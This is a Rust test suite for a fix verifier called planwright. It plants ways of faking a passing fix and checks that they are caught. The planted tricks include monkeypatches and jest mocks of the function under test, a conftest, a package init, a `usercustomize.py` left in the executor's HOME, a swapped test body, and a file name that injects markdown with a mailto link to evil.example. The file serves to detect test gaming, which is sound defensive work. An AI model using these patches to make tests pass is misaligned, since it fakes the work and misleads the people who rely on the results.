          "change": {{
            "goal": "add adds",
            "files": [
              {{"path": "calc.py", "action": "modify", "why": "the operator"}},
              {{"path": "test_calc.py", "action": "modify", "why": "a regression test"}}
            ]
          }},
          "verification": {{
            "commands": ["{PYTEST_UNNAMED}"],
            "new_tests": ["test_calc.py::test_add_negative"]
          }},
          "routing": {{"risk": "low"}}
        }}"#
    ))
    .expect("a valid contract");
    let settings = RepoConfig::parse(
        &format!("test: [\"{PYTEST_UNNAMED}\"]\n"),
        ".github/planwright.yml",
        &RootFiles::default(),
    )
    .expect("valid settings");
    let plan = Plan::new(&contract, &settings);
    let report = world
        .verify_proving(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(
                repo,
                "test_calc.py",
                &format!(
                    "{PYTEST_CALC_TESTS}\n\ndef test_add_negative():\n    assert calc.add(-2, -3) == -5\n"
                ),
            );
        })
        .await;
    // On the base code pytest counted two failures and named none: the new test may be
    // one of them, so the proof does not know, and says why.
    let proof = &report.proof;
    assert_eq!(
        proofs(&report),
        vec![(
            "test_calc.py::test_add_negative".to_owned(),
            Proof::Unknown,
            true
        )],
        "{}",
        report.compact()
    );
    assert_eq!(
        proof.tests[0].before,
        "unknown: 2 failure(s) counted but not named (exit 1)"
    );
    assert_eq!(proof.blocking(), None);
    // The fix is not refused for a proof its base run could not give.
    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert_eq!(proof.incomplete.len(), 1, "{proof:?}");
    assert_eq!(proof.incomplete[0].unnamed, 2);
    let table = report.pr_markdown();
    assert!(
        table.contains("counted 2 failure(s) or error(s) it did not name"),
        "{table}"
    );
    assert!(table.contains("2 failed, 1 passed in "), "{table}");
    // The output shown holds no path of the host's workspaces.
    let json = serde_json::to_string(&report).unwrap();
    assert!(
        !json.contains(world.root.path().to_str().unwrap()),
        "{json}"
    );
    assert!(table.contains("rootdir: .\n"), "{table}");
    // The baseline's own run is marked incomplete in the table.
    assert!(
        table.contains("1 passed, 1 failed · 1 failure not named · exit 1"),
        "{table}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_test_module_that_patches_the_code_on_import_does_not_change_the_old_tests() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            // calc.py stays broken; a new test module replaces `add` for everything that
            // runs in the same process after it is imported (discovery imports it first).
            write(
                repo,
                "test_aaa.py",
                "import unittest\nimport calc\n\ncalc.add = lambda a, b: a + b\n\n\n\
                 class TestNothing(unittest.TestCase):\n    def test_true(self):\n        \
                 self.assertTrue(True)\n",
            );
        })
        .await;
    // The old test ran without the new module: it still fails, as on the base.
    assert_eq!(
        ids(&report, Class::PreExisting),
        vec![ADD_ID],
        "{}",
        report.compact()
    );
    assert!(
        ids(&report, Class::Fixed).is_empty(),
        "{}",
        report.compact()
    );
    assert_eq!(
        report.judged,
        vec![
            "The new test files `test_aaa.py` ran apart from the old ones: \
             `python3 -m unittest test_aaa`."
                .to_owned()
        ]
    );
    // The new module's own test ran, apart, and counts.
    let c = &report.commands[0];
    assert_eq!((c.after.passed, c.after.failed), (2, 1), "{c:?}");
    // The result's checkout holds the new module again, as the executor left it.
    let table = report.pr_markdown();
    assert!(table.contains("ran apart from the old ones"), "{table}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_test_file_with_line_breaks_in_its_name_cannot_write_markdown_into_the_report() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    // Two carriage returns end a line and a paragraph for markdown; a mention and a link
    // follow.
    let name = "test_a\r\r# @mallory [x](mailto:a@evil.example).py";
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(
                repo,
                name,
                "import unittest\n\n\nclass TestNothing(unittest.TestCase):\n    \
                 def test_true(self):\n        self.assertTrue(True)\n",
            );
        })
        .await;
    assert!(
        report.judged.iter().any(|n| n.contains("@mallory")),
        "{:?}",
        report.judged
    );
    let published = report.for_publication();
    for shown in [report.pr_markdown(), published.proof, published.details] {
        support::markdown::assert_inert(&shown, "mallory");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_old_test_file_the_contract_does_not_name_runs_in_its_base_form() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let result = world.workspace().await;
    let baseline = world.baseline(&plan).await;
    // calc.py stays broken; the test is made to expect what the broken code returns.
    let changed = TESTS.replace("calc.add(2, 3), 5", "calc.add(2, 3), -1");
    write(&result.repo(), "test_calc.py", &changed);
    let report = world
        .verifier
        .verify(&plan, &contract, &baseline, &result, "run-3")
        .await
        .expect("verification runs");
    // Judged in its base form, the test still fails: nothing is fixed.
    assert_eq!(
        ids(&report, Class::PreExisting),
        vec![ADD_ID],
        "{}",
        report.compact()
    );
    assert!(ids(&report, Class::Fixed).is_empty());
    assert_eq!(
        report.judged,
        vec![
            "Judged by the base's tests: `test_calc.py` ran in its base form, since the \
             contract does not name it."
                .to_owned()
        ]
    );
    // The result's own form is back in the checkout afterwards.
    assert_eq!(
        std::fs::read_to_string(result.repo().join("test_calc.py")).unwrap(),
        changed
    );
    result.finish(Outcome::Succeeded).await.unwrap();
}

use planwright::verify::WeakeningKind;

/// The weakening findings of one kind, as `(what, location, refused)`.
fn weakened(report: &VerificationReport, kind: WeakeningKind) -> Vec<(String, String, bool)> {
    report
        .weakening
        .findings
        .iter()
        .filter(|f| f.kind == kind)
        .map(|f| (f.what.clone(), f.location(), f.refused()))
        .collect()
}

fn patches_add(source: &str, at: &str) -> (String, String, bool) {
    (
        format!(
            "patches `add` of `{source}` that the contract changes, so the test does not run \
             the code it checks"
        ),
        at.to_owned(),
        true,
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_test_module_that_replaces_the_code_it_tests_fails_naming_the_line() {
    let world = Project::new();
    let mut contract = contract();
    // The contract names the test file, as it does to add a regression test there.
    declare(&mut contract, "test_calc.py", FileAction::Modify);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            // calc.py stays broken; the tests see a working `add` all the same.
            let patched = TESTS.replacen(
                "import calc\n",
                "import calc\n\n\ndef setUpModule():\n    calc.add = lambda a, b: a + b\n",
                1,
            );
            write(repo, "test_calc.py", &patched);
        })
        .await;

    // The attack works on the run alone: both tests pass.
    let c = &report.commands[0];
    assert_eq!(
        (c.after.exit_code, c.after.passed, c.after.failed),
        (Some(0), 2, 0)
    );
    assert_ne!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert_eq!(
        weakened(&report, WeakeningKind::Patch),
        [patches_add("calc.py", "test_calc.py:6")]
    );
    assert!(report.scope.is_empty(), "{:?}", report.scope);
    let compact = report.compact();
    assert!(
        compact.contains(
            "- REFUSED patches `add` of `calc.py` that the contract changes, so the test does \
             not run the code it checks (test_calc.py:6): the contract's test_changes allow \
             no change to `test_calc.py`"
        ),
        "{compact}"
    );
    assert!(
        compact.contains(
            "to do: remove the patch at test_calc.py:6 (`calc.add = lambda a, b: a + b`)"
        ),
        "{compact}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_test_module_that_replaces_the_code_at_import_fails_naming_the_line() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            // Imported when the suite is collected, before any test of test_calc.py runs.
            write(
                repo,
                "test_setup.py",
                "import calc\n\ncalc.add = lambda a, b: a + b\n",
            );
        })
        .await;

    // The new module ran apart from the old tests, so the patch did not reach them:
    // test_add still fails, and the patch is named besides.
    let c = &report.commands[0];
    assert_eq!(c.after.failed, 1, "{c:?}");
    assert_eq!(ids(&report, Class::PreExisting), vec![ADD_ID]);
    assert_ne!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert_eq!(
        weakened(&report, WeakeningKind::Patch),
        [patches_add("calc.py", "test_setup.py:3")]
    );
    assert!(
        report.compact().contains(
            "(test_setup.py:3): the contract's test_changes allow no change to `test_setup.py`"
        ),
        "{}",
        report.compact()
    );
}

const CONFTEST_PATCH: &str = "import pytest

import calc


@pytest.fixture(autouse=True)
def working_add(monkeypatch):
    monkeypatch.setattr(calc, \"add\", lambda a, b: a + b)
";

#[tokio::test(flavor = "multi_thread")]
async fn a_new_conftest_that_patches_the_code_under_test_is_refused() {
    let world = Project::new();
    let mut contract = contract();
    contract.verification.commands = vec!["python3 -m pytest".into()];
    let plan = Plan::new(&contract, &settings("test: []\n"));
    assert_eq!(plan.checks, vec!["python3 -m pytest".to_owned()]);
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "conftest.py", CONFTEST_PATCH)
        })
        .await;

    let c = &report.commands[0];
    let base = c.baseline.as_ref().unwrap();
    assert_eq!((base.passed, base.failed), (1, 1), "pytest ran on the base");
    assert_eq!(
        (c.after.exit_code, c.after.passed, c.after.failed),
        (Some(0), 2, 0)
    );
    assert_eq!(report.verdict, Verdict::Refused, "{}", report.compact());
    assert_eq!(
        refused(&report),
        [(
            "conftest.py",
            "a file like `conftest.py` sets up how the tests run; the contract must name the \
             file to add it"
        )]
    );
    assert_eq!(
        weakened(&report, WeakeningKind::Patch),
        [patches_add("calc.py", "conftest.py:8")]
    );

    // Named by the contract, the file is in scope; its patch is still refused.
    let mut naming = contract.clone();
    declare(&mut naming, "conftest.py", FileAction::Create);
    let report = world
        .verify(&naming, &plan, |repo| {
            write(repo, "conftest.py", CONFTEST_PATCH)
        })
        .await;
    assert!(report.scope.is_empty(), "{:?}", report.scope);
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    assert_eq!(
        weakened(&report, WeakeningKind::Patch),
        [patches_add("calc.py", "conftest.py:8")]
    );
}

const CALC_JS: &str = "function add(a, b) {
  return a - b;
}

function mul(a, b) {
  return a * b;
}

module.exports = { add, mul };
";
const CALC_TEST_JS: &str = "const calc = require('./calc');

test('adds', () => {
  expect(calc.add(2, 3)).toBe(5);
});

test('multiplies', () => {
  expect(calc.mul(2, 3)).toBe(6);
});
";

/// The calc project in JavaScript, tested with the host's jest.
fn jest_project() -> (Project, Contract, Plan) {
    let world = Project::with_files(&[
        ("package.json", "{\"name\": \"calc\", \"private\": true}\n"),
        ("calc.js", CALC_JS),
        ("calc.test.js", CALC_TEST_JS),
    ]);
    let contract = Contract::from_json(
        r#"{
          "summary": "add subtracts instead of adding",
          "diagnosis": {"hypothesis": "add uses `-`"},
          "change": {
            "goal": "add adds",
            "files": [{"path": "calc.js", "action": "modify", "why": "the operator"}]
          },
          "verification": {"commands": ["jest --ci"], "new_tests": []},
          "routing": {"risk": "low"}
        }"#,
    )
    .expect("a valid contract");
    let plan = Plan::new(&contract, &settings("test: []\n"));
    (world, contract, plan)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_jest_test_that_mocks_the_code_it_tests_is_not_passed() {
    // In the test file the contract names: a spy that replaces `add`.
    let (world, mut contract, plan) = jest_project();
    declare(&mut contract, "calc.test.js", FileAction::Modify);
    let report = world
        .verify(&contract, &plan, |repo| {
            let spied = CALC_TEST_JS.replacen(
                "\n",
                "\njest.spyOn(calc, 'add').mockImplementation((a, b) => a + b);\n",
                1,
            );
            write(repo, "calc.test.js", &spied);
        })
        .await;
    let c = &report.commands[0];
    let base = c.baseline.as_ref().unwrap();
    assert_eq!((base.passed, base.failed), (1, 1), "jest ran on the base");
    assert_eq!(
        (c.after.exit_code, c.after.passed, c.after.failed),
        (Some(0), 2, 0)
    );
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    assert_eq!(
        weakened(&report, WeakeningKind::Patch),
        [patches_add("calc.js", "calc.test.js:2")]
    );

    // Through a setup file a new Jest configuration loads, neither named by the contract.
    let (world, contract, plan) = jest_project();
    let report = world
        .verify(&contract, &plan, |repo| {
            write(
                repo,
                "jest.config.js",
                "module.exports = { setupFiles: ['./test/setup.js'] };\n",
            );
            write(
                repo,
                "test/setup.js",
                "const calc = require('../calc');\n\ncalc.add = (a, b) => a + b;\n",
            );
        })
        .await;
    let c = &report.commands[0];
    assert_eq!((c.after.exit_code, c.after.failed), (Some(0), 0));
    assert_eq!(report.verdict, Verdict::Refused, "{}", report.compact());
    assert_eq!(
        refused(&report),
        [(
            "jest.config.js",
            "a file like `jest.config.*` sets up how the tests run; the contract must name the \
             file to add it"
        )]
    );
    assert_eq!(
        weakened(&report, WeakeningKind::Patch),
        [patches_add("calc.js", "test/setup.js:3")]
    );
}

/// `calc.add` replaced for every Python process that starts with `HOME` at `home`: a
/// `usercustomize` module in the user's site-packages, which Python imports at startup.
fn plant_usercustomize(home: &Path) {
    // The sandbox's own PATH finds the same python3 the checks run.
    let out = std::process::Command::new("sh")
        .args([
            "-c",
            "python3 -c 'import site; print(site.getusersitepackages())'",
        ])
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", home)
        .output()
        .expect("python3 runs");
    let site = String::from_utf8(out.stdout).unwrap();
    let site = Path::new(site.trim());
    assert!(site.starts_with(home), "{}", site.display());
    std::fs::create_dir_all(site).unwrap();
    std::fs::write(
        site.join("usercustomize.py"),
        "import os, sys\nsys.path.insert(0, os.getcwd())\nimport calc\n\
         calc.add = lambda a, b: a + b\n",
    )
    .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_usercustomize_left_in_the_executors_home_fixes_nothing() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let result = world.workspace().await;
    let baseline = world.baseline(&plan).await;
    // calc.py stays broken (a comment makes the result a change); the executor's HOME,
    // where its own commands ran, patches it for every Python process.
    write(&result.repo(), "calc.py", &format!("# adds\n{CALC}"));
    let home = result.repo().parent().unwrap().join("home");
    plant_usercustomize(&home);
    let report = world
        .verifier
        .verify(&plan, &contract, &baseline, &result, "run-3")
        .await
        .expect("verification runs");
    // The checks ran with a HOME of their own: the old test still fails, as on the base.
    assert!(
        ids(&report, Class::Fixed).is_empty(),
        "{}",
        report.compact()
    );
    assert_eq!(
        ids(&report, Class::PreExisting),
        vec![ADD_ID],
        "{}",
        report.compact()
    );
    // The executor's HOME is back as it left it, for its next attempt.
    let planted = std::fs::read_dir(&home)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect::<Vec<_>>();
    assert_eq!(planted, [".local"]);
    assert!(!home.with_file_name("home-aside").exists());
    result.finish(Outcome::Succeeded).await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_added_package_init_in_a_test_folder_does_not_reach_the_old_tests() {
    let world = Project::with_files(&[
        ("calc.py", CALC),
        ("tests/test_calc.py", PYTEST_CALC_TESTS),
        ("README.md", "# calc\n"),
    ]);
    let mut contract = contract();
    contract.verification.commands = vec!["python3 -m pytest".into()];
    contract.diagnosis.evidence.clear();
    let plan = Plan::new(&contract, &settings("test: []\n"));
    let report = world
        .verify(&contract, &plan, |repo| {
            // calc.py stays broken; pytest imports a test folder's package `__init__.py`
            // before the tests in it, and this one patches `add` out of the patch
            // reading's sight.
            write(
                repo,
                "tests/__init__.py",
                "import calc\n\n_name = \"add\"\nsetattr(calc, _name, lambda a, b: a + b)\n",
            );
        })
        .await;
    let c = &report.commands[0];
    let base = c.baseline.as_ref().unwrap();
    assert_eq!((base.passed, base.failed), (1, 1), "pytest ran on the base");
    assert!(
        ids(&report, Class::Fixed).is_empty(),
        "{}",
        report.compact()
    );
    assert_eq!(
        ids(&report, Class::PreExisting),
        vec!["tests/test_calc.py::test_add"],
        "{}",
        report.compact()
    );
    assert!(
        report.judged[0].contains("`tests/__init__.py`"),
        "{:?}",
        report.judged
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_helper_module_the_old_tests_import_that_patches_the_code_is_refused() {
    let tests = TESTS.replace("import calc\n", "import calc\nimport support\n");
    let world = Project::with_files(&[
        ("calc.py", CALC),
        ("support.py", "def numbers():\n    return 2, 3\n"),
        ("test_calc.py", &tests),
        ("README.md", "# calc\n"),
    ]);
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            // calc.py stays broken; a helper the old tests import, outside any test
            // folder, patches it when they load.
            write(
                repo,
                "support.py",
                "import calc\n\ncalc.add = lambda a, b: a + b\n\n\n\
                 def numbers():\n    return 2, 3\n",
            );
        })
        .await;
    // The helper is read for patches as a test file is: the contract does not name it.
    assert_ne!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert_eq!(
        weakened(&report, WeakeningKind::Patch),
        [patches_add("calc.py", "support.py:3")]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_honest_fix_whose_named_test_imports_a_new_test_module_passes() {
    let world = Project::new();
    let mut contract = contract();
    declare(&mut contract, "test_calc.py", FileAction::Modify);
    declare(&mut contract, "test_cases.py", FileAction::Create);
    let plan = Plan::new(&contract, &config(""));
    let report =
        world
            .verify(&contract, &plan, |repo| {
                // The fix, and the cases the contract asked for, shared from a new module
                // that the named old test file imports.
                write(repo, "calc.py", CALC_FIXED);
                write(
                    repo,
                    "test_cases.py",
                    "import unittest\n\nimport calc\n\nCASES = [(2, 3, 5), (1, 1, 2)]\n\n\n\
                 class TestCases(unittest.TestCase):\n    def test_cases_add(self):\n        \
                 for a, b, want in CASES:\n            self.assertEqual(calc.add(a, b), want)\n",
                );
                let changed = tests_with(
                "    def test_add_cases(self):\n        from test_cases import CASES\n\n        \
                 for a, b, want in CASES:\n            self.assertEqual(calc.add(a, b), want)\n",
            )
            .replace("import calc\n", "import calc\nfrom test_cases import CASES\n");
                write(repo, "test_calc.py", &changed);
            })
            .await;
    assert!(
        ids(&report, Class::Introduced).is_empty(),
        "{}",
        report.compact()
    );
    assert_eq!(
        ids(&report, Class::Fixed),
        vec![ADD_ID],
        "{}",
        report.compact()
    );
    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_failure_the_judged_run_finds_is_not_washed_out_by_a_rerun_of_the_result() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            // `mul` is broken; the old test file, which the contract does not name, hides
            // it with a patch the weakening reading does not recognise.
            write(repo, "calc.py", CALC_MUL_BROKEN);
            let patched = TESTS.replace(
                "import calc\n",
                "import calc\n\n_name = \"mul\"\nsetattr(calc, _name, lambda a, b: a * b)\n",
            );
            write(repo, "test_calc.py", &patched);
        })
        .await;
    // Judged in its base form, `test_mul` fails; a re-run of it must see the same tree.
    assert_eq!(
        ids(&report, Class::Introduced),
        vec![MUL_ID],
        "{}",
        report.compact()
    );
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_named_test_file_that_swaps_the_failing_test_for_another_fixes_nothing() {
    let world = Project::new();
    let mut contract = contract();
    declare(&mut contract, "test_calc.py", FileAction::Modify);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            // calc.py stays broken; the test file the contract lets the result change keeps
            // `test_add` and its assertion, and runs `test_mul`'s body under its name.
            let swapped = TESTS.replace(
                "\n\nif __name__",
                "\n\nTestCalc.test_add = TestCalc.test_mul\n\n\nif __name__",
            );
            write(repo, "test_calc.py", &swapped);
        })
        .await;
    // The swapped test passes under its name; the swap itself is what is refused.
    assert_ne!(report.verdict, Verdict::Passed, "{}", report.compact());
    let found = weakened(&report, WeakeningKind::Patch);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0]
            .0
            .starts_with("replaces the test `TestCalc.test_add` with other code")
            && found[0].1 == "test_calc.py:13"
            && found[0].2,
        "{found:?}"
    );
}
